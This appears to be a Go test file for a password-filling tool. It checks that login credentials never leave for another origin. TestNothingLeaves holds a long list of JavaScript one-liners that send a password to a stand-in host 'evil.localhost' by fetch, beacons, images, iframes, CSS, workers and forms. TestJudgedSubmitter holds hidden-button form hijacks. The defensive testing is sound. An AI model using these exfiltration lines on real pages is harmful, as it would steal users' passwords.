package login_test

import (
	"fmt"
	"net/http"
	"strings"
	"testing"

	"pwpipe/internal/pipetest"
)

// field is a form of a log-in without a button.
const field = `<form id=f method=post action=/take><input type=email name=email><input type=password name=pw id=pw>`

// to redirects to a path of another host.
func to(host, path string, status int) func(http.ResponseWriter, *http.Request) {
	return func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "http://"+host+".localhost"+r.Host[strings.LastIndex(r.Host, ":"):]+path, status)
	}
}

// TestJudgedSubmitter: a form sends what was judged, whatever element a click activates. A password
// is never part of an address.
func TestJudgedSubmitter(t *testing.T) {
	pipetest.InCI(t, "it is long, and TestNothingLeaves is quick")
	t.Parallel()
	const evil = `formaction=http://evil.localhost:PORT/got`
	pages := map[string]any{"evil/got": "", "shop/take": "<h1>Welcome</h1>", "shop/r307": to("evil", "/got", 307)}
	toml := ""
	cases := []struct{ name, page, why string }{
		{"a label as button", field + `<label role=button for=x>Log in</label><button id=x hidden ` + evil + `>x</button></form>`, "sends to http://evil."},
		{"a span in a label", field + `<label for=x><span role=button>Log in</span></label></form><button id=x form=f style="opacity:0" ` + evil + `>x</button>`, "sends to http://evil."},
		{"a comment of the site", field + `<label role=button for=x>Log in</label><button id=x hidden formaction=/comment>x</button></form>`, "another button"},
		{"a form that sends by GET", strings.Replace(field, "method=post", "", 1) + `<button>Log in</button></form>`, "sends by GET"},
		{"a button that sends by GET", field + `<button formmethod=get>Log in</button></form>`, "sends by GET"},
		{"a label to a GET button", field + `<label role=button for=x>Log in</label><button id=x hidden formmethod=get>x</button></form>`, "another button"},
		{"a script that sends by GET", field + `<button type=button onclick="f.method='get'; f.submit()">Log in</button></form>`, "in its address"},
		{"a fetch with an address", `<form onsubmit="event.preventDefault(); fetch('/take?p=' + encodeURIComponent(btoa(pw.value)))"><input type=email name=email><input type=password id=pw><button>Log in</button></form>`, "in its address"},
		{"the site's 307", strings.Replace(field, "/take", "/r307", 1) + `<button>Log in</button></form>`, "carries SHOP_PASSWORD, and that is not an origin"},
	}
	for i, c := range cases {
		pages[fmt.Sprintf("shop/%d", i)] = c.page
		toml += strings.NewReplacer("[shop]", fmt.Sprintf("[n%d]", i), `"/login"`, fmt.Sprintf(`"/%d"`, i)).Replace(shop)
	}
	h := serve(t, pages)
	p := h.start(toml)
	for i, c := range cases {
		got := p.Fail("login", []any{fmt.Sprintf("n%d", i)})
		if !strings.Contains(got, c.why) {
			t.Errorf("%s: %s, expected %q", c.name, got, c.why)
		}
		masked(t, got)
		h.quiet()
		for _, r := range h.sent("shop", password) {
			if !strings.Contains(r, "/r307") {
				t.Errorf("%s: sent %s", c.name, r)
			}
		}
	}
	p.Call("nav", []any{h.at("shop") + "/2"})
	p.Fail("login", []any{"n2"})
	if got := p.Call("eval", []any{"pw.value.length"}); got != "0" {
		t.Errorf("a field keeps %s characters", got)
	}
}

// TestNothingLeaves: what a page of the log-in holds does not leave for another origin, in no
// encoding, by none of the ways in which a page sends.
func TestNothingLeaves(t *testing.T) {
	pipetest.UnderRace(t)
	h := common()
	p := share(t, map[string]any{
		"shop/login": field + `<button>Log in</button></form><p id=in hidden>in</p><iframe name=box src=/box></iframe>
			<script>f.onsubmit = (e) => { e.preventDefault(); document.querySelector('#in').hidden = false; self.v = pw.value }</script>`,
		"shop/box": "<p>box</p>", "evil/got": "", "evil/frame": "<p>frame</p>", "shop/hop": to("evil", "/got", 307), "shop/hops": to("shop", "/hop", 307),
		"shop/w.js": func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", "text/javascript")
			_, _ = fmt.Fprint(w, "onmessage = (e) => fetch(e.data.to, {method: 'POST', mode: 'no-cors', body: e.data.text}).then(() => postMessage('sent'), () => postMessage('failed'))")
		},
		"shop/sw.js": func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", "text/javascript")
			_, _ = fmt.Fprint(w, `self.oninstall = () => skipWaiting(); self.onactivate = (e) => e.waitUntil(clients.claim());
				self.onmessage = (e) => e.waitUntil(fetch(e.data.to, {method: 'POST', mode: 'no-cors', body: e.data.text}).then(() => e.source.postMessage('sent'), () => e.source.postMessage('failed')))`)
		},
	})
	p.Call("login", []any{"done"})
	evil := h.at("evil") + "/got"
	if got := p.Text("eval", []any{"pw.value + f.elements.length"}); got != "3" {
		t.Errorf("a field keeps %s", got)
	}
	p.Call("eval", []any{`void (self.to = '` + evil + `', self.post = (body, to = self.to, more = {}) =>
		fetch(to, {method: 'POST', mode: 'no-cors', body, ...more}).then(() => 'sent', () => 'failed'))`})
	ways := []string{
		"post(v)", "post(btoa(v))", "post(btoa('xx' + v))", "post(btoa(JSON.stringify({p: v})))", "post(encodeURIComponent(v))", "post(JSON.stringify({p: v}))",
		"post([...v].map((c) => '\\\\u' + c.charCodeAt().toString(16).padStart(4, '0')).join(''))", "post([...v].map((c) => '&#' + c.charCodeAt() + ';').join(''))",
		"post([...v].map((c) => c.charCodeAt().toString(16)).join(''))", "post(v.toUpperCase())", "post(v.slice(3, 12))",
		"post(new Blob([v]))", "post(new Blob([v.slice(0, 10), v.slice(10)]))", "post(new TextEncoder().encode(v))", "post(new URLSearchParams({v}))",
		"(() => { const d = new FormData(); d.set('v', v); return post(d); })()", "(() => { const d = new FormData(); d.set('v', new File([v], 'a.txt')); return post(d); })()",
		"post('', to + '?' + encodeURIComponent(v))", "post('', to + '?' + btoa(v))", "post(v, '/hop')", "post(v, '/hops')",
		"fetch(to, {headers: {'X-A': v}}).then(() => 'sent', () => 'failed')", "fetch(to, {method: 'PUT', body: v}).then(() => 'sent', () => 'failed')",
		"fetch(to + '?' + v, {headers: {'X-A': '1'}}).then(() => 'sent', () => 'failed')", "fetch(to + '?' + v, {method: 'DELETE'}).then(() => 'sent', () => 'failed')",
		"(navigator.sendBeacon(to, v), 'failed')", "new Promise((r) => { const i = new Image(); i.onerror = () => r('failed'); i.src = to + '?' + v; })",
		"new Promise((r) => { const x = new XMLHttpRequest(); x.onerror = () => r('failed'); x.onload = () => r('sent'); x.open('POST', to); x.send(v); })",
		"new Promise((r) => { const e = new EventSource(to + '?' + v); e.onerror = () => r('failed'); })",
		"new Promise((r) => { const w = new Worker('/w.js'); w.onmessage = (e) => r(e.data); w.postMessage({to, text: v}); })",
		`new Promise((r) => { navigator.serviceWorker.onmessage = (e) => r(e.data);
			navigator.serviceWorker.register('/sw.js'); navigator.serviceWorker.ready.then((s) => s.active.postMessage({to, text: v})); })`,
		"new Promise((r) => { const i = document.createElement('iframe'); i.onload = () => r('failed'); i.src = to + '?' + v; document.body.append(i); })",
		"new Promise((r) => { const i = document.createElement('iframe'); i.onload = () => r('failed'); i.src = to + '#' + encodeURIComponent(v); document.body.append(i); })",
		"new Promise((r) => { const s = document.createElement('script'); s.onerror = () => r('failed'); s.src = to + '/' + v; document.body.append(s); })",
		"new Promise((r) => { const l = document.createElement('link'); l.onerror = () => r('failed'); l.rel = 'stylesheet'; l.href = to + '?' + v; document.head.append(l); })",
		"(() => { const a = document.createElement('a'); a.ping = to + '?' + encodeURIComponent(v); a.href = '#x'; a.click(); return 'failed'; })()",
		"new Promise((r) => { const s = document.createElement('style'); s.textContent = 'p { background: url(\"' + to + '?' + v + '\") }'; document.head.append(s); setTimeout(() => r('failed'), 50); })",
	}
	for _, code := range pipetest.Some(append(ways, forms()...), 3) {
		if got := p.Text("eval", []any{code}); got != "failed" {
			t.Errorf("%s: %s", code, got)
		}
		h.quiet()
	}
	// What is too long to be judged goes to the log-in's origin alone.
	h.forget()
	for code, want := range map[string]string{"post('x'.repeat(30e6))": "failed", "post('x'.repeat(30e6), '/long')": "sent", "post('x'.repeat(3e6))": "sent"} {
		if got := p.Text("eval", []any{code}); got != want {
			t.Errorf("%s: %s", code, got)
		}
	}
	if list := h.sent("evil", "/got"); len(list) != 1 {
		t.Errorf("evil heard %d requests", len(list))
	}
	h.forget()
	p.Call("eval", []any{"void window.open(to + '#' + encodeURIComponent(v))"})
	p.Call("eval", []any{"void (location = to + '?' + encodeURIComponent(v))"})
	p.Try("nav", []any{h.at("evil") + "/frame"})
	h.quiet()
	for _, way := range []string{"/got", "/hop"} {
		for _, r := range h.sent("evil", way) {
			if !strings.Contains(r, "Access-Control-Request-Method") { // a preflight has no value
				t.Errorf("evil heard %s", r)
			}
		}
	}
}

// TestCancelledLogin: a log-in that is cancelled before it sends empties the fields.
func TestCancelledLogin(t *testing.T) {
	pipetest.InCI(t, "it is long, and TestRefusedLogin is quick")
	t.Parallel()
	h := serve(t, map[string]any{"shop/login": field + `<button disabled>Log in</button></form><script>pw.oninput = () => fetch('/typed')</script>`, "shop/typed": ""})
	p := h.start(shop)
	id := p.Request("login", []any{"shop"})
	pipetest.Eventually(t, "the password is typed", func() bool { return len(h.sent("shop", "/typed")) > 0 })
	p.Request("cancel", map[string]any{"id": id})
	p.Reply()
	p.Reply()
	pipetest.Eventually(t, "the field is empty", func() bool { return p.Text("eval", []any{"pw.value + f.elements.length"}) == "3" })
}

// forget forgets what was heard.
func (h *hosts) forget() {
	h.mu.Lock()
	defer h.mu.Unlock()
	h.heard = nil
}

// forms sends a form in each way that HTML has, into a frame.
func forms() (list []string) {
	for _, enctype := range []string{"application/x-www-form-urlencoded", "multipart/form-data", "text/plain"} {
		list = append(list, `new Promise((r) => { const g = document.createElement('form'), i = document.createElement('input'); i.name = 'a'; i.value = v; g.append(i);
			Object.assign(g, {method: 'post', enctype: '`+enctype+`', action: to, target: 'box'}); document.body.append(g);
			document.querySelector('[name=box]').onload = () => r('failed'); g.submit(); })`)
	}
	return list
}

// TestPageOfLogin: a log-in that gives its page is typed there, and not into a form of the same
// origin that the page shows.
func TestPageOfLogin(t *testing.T) {
	pipetest.InCI(t, "it is long, and TestLogin is quick")
	t.Parallel()
	h := serve(t, map[string]any{"shop/comment": strings.Replace(form, "action=/login", "action=/said", 1), "shop/said": "<h1>Said</h1>",
		"shop/login": strings.Replace(form, "action=/login", "action=/take", 1), "shop/take": "<h1>Welcome</h1>"})
	p := h.start(shop)
	for range 2 {
		p.Call("nav", []any{h.at("shop") + "/comment"})
		pipetest.Has(t, p.Call("login", []any{"shop"}), "/take")
	}
	p.Call("nav", []any{h.at("shop") + "/login?x#y"})
	p.Call("login", []any{"shop"})
	for _, r := range h.sent("shop", password) {
		if !strings.HasPrefix(r, "shop /take") {
			t.Errorf("sent %s", r)
		}
	}
	if n := len(h.sent("shop", password)); n != 3 {
		t.Errorf("sent %d times", n)
	}
}
